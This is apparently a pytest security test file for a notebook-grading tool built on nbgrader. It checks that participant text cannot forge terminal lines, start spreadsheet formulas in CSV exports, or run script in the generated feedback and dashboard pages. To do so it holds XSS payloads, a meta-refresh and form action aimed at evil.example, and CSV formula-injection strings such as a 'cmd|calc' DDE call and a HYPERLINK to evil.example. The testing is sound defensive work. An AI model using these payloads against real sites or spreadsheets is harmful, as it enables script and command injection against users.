"""Participants' text in what the facilitator's side writes: terminal lines, CSV cells and web pages.

A participant controls file names, answers, Markdown cells they add and (graded with
``--execute``) their cells' outputs. None of it may forge a line of a command's
summary, start a formula in a spreadsheet, or run a script in a page we or nbgrader
write. Pages are read with ``html.parser``, the way a browser builds its elements,
never searched as text.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from model_support import add_model_row
from workbooks.answers import Answers
from workbooks.facilitator import cli
from workbooks.facilitator.dashboard import Dashboard
from workbooks.facilitator.export import feedback_page, neutralise_csv, write_grades, write_wide
from workbooks.facilitator.progress import Outcome, Progress, Summary, write_outcomes
from workbooks.facilitator.results import AUTO, Cohort, Part, Participant, Remark, SessionResult
from workbooks.facilitator.safe import console, csv_cell
from workbooks.facilitator.safe_html import clean_html
from workbooks.kinds import render
from workbooks.kinds.checklist import Checklist
from workbooks.kinds.ladder import PHASE_FIELDS, Ladder
from workbooks.kinds.maturity import STAGE, Maturity
from workbooks.kinds.power_interest_map import PowerInterestMap
from workbooks.kinds.reflections import Reflections
from workbooks.kinds.scorecard import Scorecard
from workbooks.kinds.table import TableModel
from workbooks.kinds.timeline import Timeline
from workbooks.sessions import all_sessions, get

REPO = Path(__file__).resolve().parents[1]
MARK = "PWNED"  # in every payload, so a payload that survives as code is easy to tell from our own scripts
PAYLOADS = (
    f"<script>window.{MARK}=1</script>",
    f'<img src=x onerror="window.{MARK}=2">',
    f'"><svg onload="window.{MARK}=3"><a href="javascript:window.{MARK}=4">link</a>',
    f"<iframe srcdoc=\"<script>window.{MARK}=5</script>\"></iframe><style>*{{display:none}}</style>",
)
HOSTILE_LINK = f'https://example.org/?q="><script>window.{MARK}=6</script>'


# ---------------------------------------------------------------- reading pages as a browser does

class Page(HTMLParser):
    """The elements of a page: what ``html.parser`` makes of it, as a browser would."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []  # the text inside each <script>
        self.text: list[str] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "script":
            self._in_script = True
            self.scripts.append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.text.append(data)

    def live_code(self) -> list[str]:
        """Everything on the page that a browser would run, or load as a document, if no policy stopped it."""
        found = [f"<{tag}>" for tag, _ in self.elements if tag in ("script", "iframe", "object", "embed", "frame")]
        for tag, attrs in self.elements:
            for name, value in attrs.items():
                if name.startswith("on"):
                    found.append(f"<{tag} {name}={value}>")
                if name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc") and \
                        re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(("javascript:", "data:text")):
                    found.append(f"<{tag} {name}={value}>")
                if name == "http-equiv" and value.lower() == "refresh":
                    found.append(f"<{tag} refresh>")
        return found

    def policy(self) -> str | None:
        metas = [a.get("content", "") for t, a in self.elements
                 if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"]
        assert len(metas) <= 1, metas
        return metas[0] if metas else None

    def policy_comes_first(self) -> bool:
        """The policy's <meta> precedes every script and style it is to cover."""
        tags = [(t, a) for t, a in self.elements]
        at = next(i for i, (t, a) in enumerate(tags) if t == "meta" and "http-equiv" in a)
        return not any(t in ("script", "style", "link") for t, _ in tags[:at])


def script_directive(policy: str) -> str:
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if " " in d.strip())
    return directives.get("script-src", directives.get("default-src", ""))


def sha256(script: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"


# ---------------------------------------------------------------- hostile answers

def hostile_answers(session: str, number: int = 0) -> Answers:
    """The session's worked example, with a payload in every box a participant types text into."""
    spec = get(session)
    answers = Answers.empty(spec)
    for exercise in spec.exercises:
        model = answers.models[exercise.name]
        if exercise.example:
            model.load(exercise.example)
        payloads = [f"{p} {number}-{i}" for i, p in enumerate(PAYLOADS)]
        if isinstance(model, TableModel):
            model.rows = []
            for i, payload in enumerate(payloads):
                row = {c: payload for c in model.columns}
                for column in model.link_columns:
                    row[column] = f"{HOSTILE_LINK}{i}"
                if isinstance(model, Timeline):
                    row[model.date_column] = f"20{10 + i}-05"
                add_model_row(model, row)
        elif isinstance(model, PowerInterestMap):
            model.placements = []
            for i, payload in enumerate(payloads):
                model.place(payload, i * 3, 10 - i * 3)
        elif isinstance(model, Checklist):
            for section in model.sections:
                model.set_text(section, "\n".join(payloads))
        elif isinstance(model, Reflections):  # forms too; a maturity stage is only ever picked from a list
            for prompt in model.prompts:
                if not (isinstance(model, Maturity) and prompt == STAGE):
                    model.set_answer(prompt, " ".join(payloads))
        elif isinstance(model, Scorecard):
            for item in model.items:
                for note in model.notes:
                    model.set_note(item, note, " ".join(payloads))
        elif isinstance(model, Ladder):
            for phase in model.order:
                for name in PHASE_FIELDS:
                    model.set_field(phase, name, "\n".join(payloads))
    return answers


def every_kind_hostile() -> list[tuple[str, object]]:
    return [(f"{s.id}/{e.name}", hostile_answers(s.id).models[e.name]) for s in all_sessions() for e in s.exercises]


# ---------------------------------------------------------------- console

def test_console_shows_control_and_bidi_characters_as_escapes():
    assert console("alice__session2.ipynb") == "alice__session2.ipynb"
    assert console("Zoë 🌱 名前") == "Zoë 🌱 名前"  # printable text is left alone
    assert console("a\nb\rc\td") == "a\\nb\\rc\\td"
    assert console("\x1b[2J\x00\x07\x7f\x85\x9b") == "\\x1b[2J\\x00\\x07\\x7f\\x85\\x9b"
    assert console("invoice\u202egnp.exe\u2066\u2069\u200f\u061c\u2028") == \
        "invoice\\u202egnp.exe\\u2066\\u2069\\u200f\\u061c\\u2028"
    assert console(Path("x\ny")) == "x\\ny"


FORGED = "bob__session2.ipynb\n[fake line] filed: 60 participants\x1b[2J\x1b[1A\u202eevil"


def one_line(text: str) -> None:
    assert "\x1b" not in text and "\u202e" not in text and "\r" not in text
    assert "\\n[fake line]" in text and "\\x1b[2J" in text and "\\u202eevil" in text


def test_summary_renders_a_forged_file_name_as_one_escaped_line():
    summary = Summary("Collect: participants' work", lines=[f"skipped {FORGED}: not a notebook"],
                      outputs=[Path("/course/reports") / FORGED])
    summary.count(f"skipped {FORGED}")
    lines = summary.render().split("\n")
    assert len(lines) == 4  # title, counts, one line, one output
    for line in lines[1:]:
        one_line(line)


@pytest.mark.parametrize("live", [False, True])
def test_progress_notes_and_bar_keep_a_forged_file_name_on_its_line(live):
    stream = io.StringIO()
    stream.isatty = lambda: live  # type: ignore[method-assign]
    progress = Progress(stream)
    progress.note(f"Could not read {FORGED}")
    for _ in progress.over([FORGED], "Collecting"):
        pass
    written = stream.getvalue()
    escapes_of_ours = written.count("\r\x1b[K")  # the live bar's own: back to the line's start, clear it
    lines = written.replace("\r\x1b[K", "").split("\n")
    assert all("\x1b" not in line and "\r" not in line for line in lines)
    assert escapes_of_ours == (3 if live else 0)
    assert sum("[fake line]" in line for line in lines) == 2
    for line in lines:
        if "[fake line]" in line:
            one_line(line)


@pytest.mark.parametrize("problem", [cli.CourseError(f"No course folder here: {FORGED}"), RuntimeError(FORGED)],
                         ids=["course error", "unexpected error"])
def test_the_command_line_prints_a_forged_error_as_one_line(problem, capsys, monkeypatch):
    def find(*_args: object, **_kwargs: object) -> None:
        raise problem

    monkeypatch.setattr(cli.Course, "find", staticmethod(find))
    assert cli.main(["report", "--quiet"]) == 1
    error = capsys.readouterr().err
    assert error.count("\n") == 1
    one_line(error)


# ---------------------------------------------------------------- CSV

@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"),
    ("\n-cmd", "'\n-cmd"), ("\uff1d1+1", "'\uff1d1+1"), ("-", "'-"),
    ("-2", "-2"), ("+3", "+3"), ("-2.50", "-2.50"), ("1e3", "1e3"), (".5", ".5"), (-2, "-2"), (-1.5, "-1.5"),
    ("alice", "alice"), ("a=b", "a=b"), ("", ""), (None, ""), ("2026-12-01 17:00:00", "2026-12-01 17:00:00"),
])
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(value, cell):
    assert csv_cell(value) == cell


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_batch_reports_neutralise_file_names_and_errors_but_keep_numbers(tmp_path):
    outcomes = [
        Outcome('=HYPERLINK("http://evil.example/?"&A1,"open")', "skipped", "-cmd|' /C calc'!A0: not a notebook",
                participant="@alice", session="+session2", seconds=1.5),
        Outcome("bob/session2", "graded with problems", "graded, but checking it failed: =Error('x')",
                participant="bob", session="session2", seconds=-0.25),
    ]
    rows = read_csv(write_outcomes(tmp_path / "reports" / "collect.csv", outcomes))
    assert rows[0] == ["item", "participant", "session", "status", "reason", "seconds"]
    assert rows[1] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'@alice", "'+session2", "skipped",
                       "'-cmd|' /C calc'!A0: not a notebook", "1.50"]
    assert rows[2][4] == "graded, but checking it failed: =Error('x')"  # a formula only at the start counts
    assert rows[2][5] == "-0.25"  # our numbers stay numbers


def hostile_cohort(size: int = 3) -> Cohort:
    participants = []
    for number in range(size):
        result = SessionResult(f"p{number}", "session2", submitted=True, in_gradebook=True,
                               parts=[Part("purpose_outcomes_check", AUTO, "purpose_outcomes", "", 2.0, 2.0)],
                               answers=hostile_answers("session2", number),
                               comments=[Remark("purpose_outcomes", "", "", "\n".join(PAYLOADS))],
                               problems=[f"=problem {PAYLOADS[0]}"])
        participants.append(Participant(f"p{number}", first_name=f"=cmd|' /C calc'!A0 {PAYLOADS[1]}",
                                        last_name="@SUM(1)", sessions={"session2": result}))
    return Cohort(["session2"], participants, problems=[f"-{PAYLOADS[2]}"])


def test_grade_exports_neutralise_names_and_notes_but_keep_points(tmp_path):
    cohort = hostile_cohort(1)
    grades = read_csv(write_grades(tmp_path / "grades.csv", cohort))
    row = dict(zip(grades[0], grades[1], strict=True))
    assert row["first_name"].startswith("'=cmd") and row["last_name"] == "'@SUM(1)"
    assert row["notes"].startswith("'=problem")
    assert row["autograded_points"] == "2" and row["total_points"] == "2"
    wide = read_csv(write_wide(tmp_path / "wide.csv", cohort))
    row = dict(zip(wide[0], wide[1], strict=True))
    assert row["first_name"].startswith("'=cmd") and row["session2_total"] == "2"


def test_nbgrader_export_is_rewritten_without_formulas(tmp_path):
    path = tmp_path / "nbgrader_grades.csv"
    # As nbgrader's CsvExportPlugin writes it: unquoted, so a comma in a name already splits the cell.
    path.write_text("assignment,duedate,timestamp,student_id,last_name,first_name,email,raw_score,"
                    "late_submission_penalty,score,max_score\n"
                    "session2,,2026-12-01 17:00:00,p1,=1+1,Ann,@evil.example,9.0,-1.0,8.0,18.0\n"
                    "session2,,,p2,Doe,x,-cmd|calc!A0,a@b.example,0.0,0.0,0.0,18.0\n", encoding="locale")
    neutralise_csv(path)
    rows = list(csv.reader(path.open(newline="", encoding="locale")))
    assert rows[1] == ["session2", "", "2026-12-01 17:00:00", "p1", "'=1+1", "Ann", "'@evil.example",
                       "9.0", "-1.0", "8.0", "18.0"]
    assert rows[2][6] == "'-cmd|calc!A0"
    assert path.read_text(encoding="locale").count("\n") == 3


# ---------------------------------------------------------------- static HTML of every kind

@pytest.mark.parametrize("name, model", every_kind_hostile(), ids=lambda v: v if isinstance(v, str) else "")
def test_static_html_of_every_kind_shows_hostile_answers_as_text(name, model):
    html = render(model)
    page = Page(html)
    assert page.live_code() == [], name
    assert not any(tag in ("style", "img", "a") for tag, _ in page.elements), name
    typed = isinstance(model, (TableModel, PowerInterestMap, Checklist, Reflections, Ladder))
    if typed:  # the payload is there, as text a browser shows
        assert MARK in "".join(page.text), name


def test_sanitiser_keeps_our_static_html_and_removes_live_code():
    for spec in all_sessions():
        for exercise in spec.exercises:
            model = exercise.make()
            if exercise.example:
                model.load(exercise.example)
            ours = Page(render(model))
            cleaned = Page(clean_html(render(model)))
            assert [t for t, _ in cleaned.elements] == [t for t, _ in ours.elements], exercise.name
            assert [set(a) for _, a in cleaned.elements] == [set(a) for _, a in ours.elements], exercise.name
    for payload in PAYLOADS + (f'<a href=" jAvAsCrIpT:window.{MARK}=7">x</a>',
                               f'<img src="data:image/svg+xml;base64,PHN2Zz4=" onload="{MARK}">',
                               f'<a href="data:text/html,<script>{MARK}</script>">x</a>',
                               f'<math><mtext><table><mglyph><style><img src=x onerror="{MARK}">',
                               '<form action="https://evil.example"><input name=p></form><meta http-equiv=refresh '
                               'content="0;url=https://evil.example">'):
        page = Page(clean_html(f"<p>before</p>{payload}<p>after</p>"))
        assert page.live_code() == [], payload
        assert not any(t in ("style", "form", "input", "meta", "link", "base") for t, _ in page.elements)
        assert "before" in page.text  # the text around it stays (an unclosed <style> takes the rest, as in a browser)
    kept = Page(clean_html('<img src="data:image/png;base64,iVBORw0KGgo=" alt="a chart"><a href="https://x.org">x</a>'))
    assert kept.elements[0] == ("img", {"src": "data:image/png;base64,iVBORw0KGgo=", "alt": "a chart"})


# ---------------------------------------------------------------- our pages

def test_our_feedback_page_runs_nothing_and_allows_no_script():
    participant = hostile_cohort(1).participants[0]
    html = feedback_page(participant, ["session2"])
    page = Page(html)
    assert page.live_code() == []
    assert page.scripts == []
    assert MARK in "".join(page.text)  # shown, as text
    policy = page.policy()
    assert policy is not None and page.policy_comes_first()
    assert "default-src 'none'" in policy and "script-src" not in policy and "unsafe-eval" not in policy


def test_dashboard_runs_only_its_own_chart_scripts():
    html = Dashboard(hostile_cohort(3)).render()
    page = Page(html)
    assert MARK in "".join(page.text)  # the closing feedback and names are shown, as text
    assert page.live_code() == ["<script>"] * len(page.scripts)  # plotly's, and nothing else
    assert page.scripts and not any(MARK in script for script in page.scripts)
    policy = page.policy()
    assert policy is not None and page.policy_comes_first()
    allowed = script_directive(policy).split()
    assert "'unsafe-inline'" not in allowed and "'unsafe-eval'" not in allowed
    assert sorted(set(allowed)) == sorted({sha256(script) for script in page.scripts})


# ---------------------------------------------------------------- nbgrader's pages, rendered here

def nbgrader_config():
    from traitlets.config.loader import PyFileConfigLoader

    return PyFileConfigLoader("nbgrader_config.py", path=str(REPO)).load_config()


def hostile_notebook():
    """An autograded session 2 notebook as a participant can shape it: a Markdown cell of their own, and
    (graded with --execute) whatever their cells displayed."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

    cells = [
        new_markdown_cell("# Session 2\n\nThe lesson."),
        new_markdown_cell("My notes " + " ".join(PAYLOADS) + f" [click](javascript:window.{MARK}=8)"),
        new_code_cell("workbook.show('purpose_outcomes')", outputs=[
            new_output("display_data", data={"text/html": render(hostile_answers("session2").models["stakeholders"]),
                                             "text/plain": "ours"}),
            new_output("display_data", data={"text/html": " ".join(PAYLOADS), "text/plain": "theirs"}),
            new_output("display_data", data={"text/markdown": PAYLOADS[0] + "\n\n" + PAYLOADS[1]}),
            new_output("display_data", data={"application/javascript": f"window.{MARK}=9"}),
            new_output("execute_result", data={"text/html": PAYLOADS[3]}, execution_count=1),
        ]),
    ]
    cells[2].metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True,
                                     "grade_id": "purpose_outcomes_answer", "schema_version": 3}
    notebook = new_notebook(cells=cells)
    nbformat.validate(notebook)
    return notebook


def feedback_exporter():
    """generate_feedback's exporter as nbgrader_config.py sets it, with nbgrader's feedback template."""
    import nbgrader
    from traitlets import import_item
    from traitlets.config import Config

    config = nbgrader_config()
    exporter_class = config.GenerateFeedback.get("exporter_class", "nbconvert.exporters.HTMLExporter")
    if isinstance(exporter_class, str):
        exporter_class = import_item(exporter_class)
    templates = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
    extra = Config()
    extra.HTMLExporter.template_name = "feedback"  # what GenerateFeedback adds to the configuration
    extra.HTMLExporter.extra_template_basedirs = [str(templates)]
    extra.HTMLExporter.extra_template_paths = [str(templates.parent / "static" / "node_modules" / "bootstrap" /
                                                   "dist" / "css")]
    config.merge(extra)
    return exporter_class(config=config)


FEEDBACK_RESOURCES = {"nbgrader": {"notebook": "session2", "score": 1, "max_score": 2, "late_penalty": 0}}


def test_nbgrader_feedback_exporter_sanitises_and_allows_no_script():
    html, _ = feedback_exporter().from_notebook_node(hostile_notebook(), resources=FEEDBACK_RESOURCES)
    page = Page(html)
    assert page.live_code() == []
    assert page.scripts == []
    assert MARK in "".join(page.text)  # the participant's table, as text
    policy = page.policy()
    assert policy is not None and page.policy_comes_first() and "script-src" not in policy
    # Our own static HTML survives the sanitiser: the stakeholders table with its caption.
    assert ("caption", {}) in page.elements and any(t == "th" for t, _ in page.elements)


def test_remembered_renderings_give_each_feedback_page_exactly_what_rendering_it_alone_gives():
    from nbformat.v4 import new_markdown_cell

    from workbooks.facilitator import feedback_html

    first, second = hostile_notebook(), hostile_notebook()
    second.cells.append(new_markdown_cell("Only in the **second** participant's notebook"))
    feedback_exporter().from_notebook_node(first, resources=FEEDBACK_RESOURCES)
    remembered, _ = feedback_exporter().from_notebook_node(second, resources=FEEDBACK_RESOURCES)
    feedback_html._MARKDOWN = feedback_html._Remembered()
    feedback_html._HIGHLIGHTED = feedback_html._Remembered()
    alone, _ = feedback_exporter().from_notebook_node(second, resources=FEEDBACK_RESOURCES)
    uuid = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")  # fresh for each output
    assert uuid.sub("ID", remembered) == uuid.sub("ID", alone)
    assert "<strong>second</strong>" in alone


def test_feedback_pages_keep_nbconverts_alternative_text_and_tab_stops():
    from workbooks.facilitator.feedback_html import NO_ALT_TEXT, accessible_page

    page = Page(accessible_page(
        '<!DOCTYPE html><html lang="en"><head><title>t</title></head><body><div class="jp-Notebook">'
        '<div class="jp-Cell-inputWrapper">in</div><div class="jp-RenderedText jp-OutputArea-output">out</div>'
        '<img src="a.png"><img src="b.png" alt="a chart"></div>'
        '<div class="jp-OutputArea-output">outside the notebook</div></body></html>'))
    assert ("img", {"src": "a.png", "alt": NO_ALT_TEXT}) in page.elements
    assert ("img", {"src": "b.png", "alt": "a chart"}) in page.elements
    focusable = [attributes["class"] for _, attributes in page.elements if attributes.get("tabindex") == "0"]
    assert focusable == ["jp-Cell-inputWrapper", "jp-RenderedText jp-OutputArea-output"]


def test_formgrader_renders_participants_markdown_and_outputs_sanitised():
    """The formgrader's exporter: nbconvert's HTMLExporter with nbgrader_config.py's HTMLExporter settings."""
    import nbgrader
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    config = nbgrader_config()
    templates = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
    extra = Config()
    extra.HTMLExporter.template_name = "formgrade"  # what the formgrader adds to the configuration
    extra.HTMLExporter.extra_template_basedirs = [str(templates)]
    config.merge(extra)
    html, _ = HTMLExporter(config=config).from_notebook_node(hostile_notebook(), resources={
        "assignment_id": "session2", "notebook_id": "session2", "submission_id": "abc", "index": 0, "total": 1,
        "base_url": "", "student": "p0", "last_name": "", "first_name": "", "notebook_path": "x"})
    page = Page(html)
    # The formgrader's own scripts and handlers stay; none comes from the participant.
    assert not any(MARK in script for script in page.scripts)
    assert [code for code in page.live_code() if MARK in code] == []
    assert MARK in "".join(page.text)


# ---------------------------------------------------------------- nbgrader's feedback, end to end

@pytest.mark.slow
def test_generate_feedback_page_runs_no_script_from_the_participant(tmp_path):
    """`workbooks grade` on a hand-in with a Markdown cell of the participant's own, then nbgrader's
    `generate_feedback` again after their cells' outputs carry script (as grading with --execute keeps them)."""
    import json
    import os
    import shutil
    import subprocess
    import tempfile

    from course_support import BIN, hand_in, make_course, workbooks_cli

    artifacts = REPO / ".test-artifacts"  # outside /tmp, which the grading sandbox hides
    artifacts.mkdir(exist_ok=True)
    course = make_course(Path(tempfile.mkdtemp(prefix="feedback-", dir=artifacts)) / "course")
    try:
        _, handed_in = hand_in(tmp_path / "desk", course / "release", "session2", "alice")
        notebook = json.loads(handed_in)
        notebook["cells"].insert(2, {"cell_type": "markdown", "metadata": {}, "id": "participants-own",
                                     "source": "My notes " + " ".join(PAYLOADS)})
        submitted = course / "submitted" / "alice" / "session2"
        submitted.mkdir(parents=True)
        (submitted / "session2.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
        result = workbooks_cli(course, "grade", "--quiet")
        assert result.returncode == 0, result.stdout + result.stderr
        feedback = course / "feedback" / "alice" / "session2" / "session2.html"
        first = Page(feedback.read_text(encoding="utf-8"))
        assert "My notes" in "".join(first.text)  # their cell is there, without its script

        graded = course / "autograded" / "alice" / "session2" / "session2.ipynb"
        notebook = json.loads(graded.read_text(encoding="utf-8"))
        cell = next(c for c in notebook["cells"] if c["cell_type"] == "code" and c.get("outputs"))
        cell["outputs"] += [
            {"output_type": "display_data", "metadata": {}, "data": {"text/html": " ".join(PAYLOADS)}},
            {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": "\n\n".join(PAYLOADS)}},
            {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": f"window.{MARK}=9"}},
        ]
        graded.write_text(json.dumps(notebook), encoding="utf-8")
        env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}
        again = subprocess.run([str(BIN / "nbgrader"), "generate_feedback", "session2", "--student", "alice",
                                "--force"], cwd=course, env=env, capture_output=True, text=True, timeout=600)
        assert again.returncode == 0, again.stderr
        for page in (first, Page(feedback.read_text(encoding="utf-8"))):
            assert page.live_code() == []
            assert page.scripts == []  # not even MathJax: the page needs none
            assert "".join(page.text).count(MARK) == 0  # payloads removed, not shown (a sanitiser, not escaping)
            policy = page.policy()
            assert policy is not None and page.policy_comes_first()
            assert "default-src 'none'" in policy and "script-src" not in policy
            assert ("caption", {}) in page.elements  # our answers' tables survive
    finally:
        shutil.rmtree(course.parent, ignore_errors=True)
